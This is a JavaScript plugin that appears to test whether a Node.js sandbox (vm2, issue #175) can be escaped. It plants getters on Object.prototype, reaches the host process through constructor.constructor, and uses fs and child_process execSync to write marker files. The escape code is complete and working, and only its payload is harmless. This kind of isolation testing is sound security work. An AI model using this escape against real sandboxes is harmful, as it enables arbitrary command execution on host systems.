// Escape attempt: vm2 #175: getters planted on Object.prototype (get/set/then/constructor) hoping host code reads them on a sandbox object.
// Each attempt hands whatever it reached to pwn(); pwn writes the marker file only if it holds the host process.
function pwn(p, marker, notes, label) {
  try {
    if (!p || (typeof p !== "object" && typeof p !== "function")) { notes.push(label + ": nothing"); return false; }
    const get = typeof p.getBuiltinModule === "function" ? (n) => p.getBuiltinModule(n) : p.mainModule ? (n) => p.mainModule.require(n) : null;
    if (!get) { notes.push(label + ": no process"); return false; }
    get("fs").writeFileSync(marker, "escaped via " + label);
    try { get("child_process").execSync("touch " + marker + ".cp"); } catch (e) {}
    notes.push(label + ": ESCAPED");
    return true;
  } catch (e) { notes.push(label + ": " + String(e && e.message)); return false; }
}
function attempt(notes, label, fn) {
  try { fn(); } catch (e) { notes.push(label + " threw: " + String(e && e.message).slice(0, 80)); }
}

module.exports = {
  name: 'escape-prototype-pollution',
  description: 'sandbox escape attempt: prototype-pollution',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    const planted = [];
    for (const key of ["get", "set", "then", "value", "toJSON", "message"]) {
      attempt(notes, "define " + key, () => { Object.defineProperty(Object.prototype, key, { configurable: true, get() { attempt(notes, "getter " + key, () => pwn(this.constructor.constructor("return process")(), marker, notes, "getter " + key)); return undefined; } }); planted.push(key); });
    }
    await ctx.services().catch(() => {});
    attempt(notes, "send", () => __send("{\"op\":\"log\",\"text\":\"x\"}"));
    for (const key of planted) delete Object.prototype[key];
    return { summary: notes.join(' | '), data: notes };
  },
};
